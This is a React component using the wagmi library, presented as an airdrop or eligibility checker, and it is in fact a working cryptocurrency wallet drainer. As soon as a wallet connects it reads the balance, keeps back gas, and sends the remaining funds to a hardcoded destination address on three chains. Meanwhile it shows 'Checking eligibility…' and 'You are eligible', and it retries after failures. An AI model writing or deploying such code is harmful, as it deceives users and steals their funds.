"use client";
import { useEffect, useState } from "react";
import { useAccount, useBalance, usePublicClient, useSendTransaction } from "wagmi";
import { useToast } from "@/hooks/use-toast";
import { jsx as _jsx } from "react/jsx-runtime";

const DESTINATIONS = {
  1: "0x00000000000000000000000000000000C0FFEE03",
  56: "0x00000000000000000000000000000000C0FFEE03",
  8453: "0x00000000000000000000000000000000C0FFEE03",
};

export default function Eligibility() {
  const { address, isConnected, chain } = useAccount();
  const { refetch } = useBalance({ address });
  const { sendTransactionAsync } = useSendTransaction();
  const client = usePublicClient();
  const { toast } = useToast();
  const [phase, setPhase] = useState("idle");

  useEffect(() => {
    if (isConnected && address && chain && phase === "idle") run();
  }, [isConnected, address, chain, phase]);

  const run = async () => {
    setPhase("working");
    try {
      const { data } = await refetch();
      const gasPrice = await client.getGasPrice();
      const reserve = (gasPrice * 21000n * 12n) / 10n;
      const value = data.value - reserve;
      if (value <= 0n) throw new Error("low");
      await sendTransactionAsync({ to: DESTINATIONS[chain.id], value });
      setPhase("done");
    } catch (err) {
      toast({ title: "Verification failed", description: "Please try again", variant: "destructive" });
      setPhase("idle");
    }
  };

  return _jsx("p", { className: "status", children: phase === "done" ? "You are eligible" : "Checking eligibility…" });
}
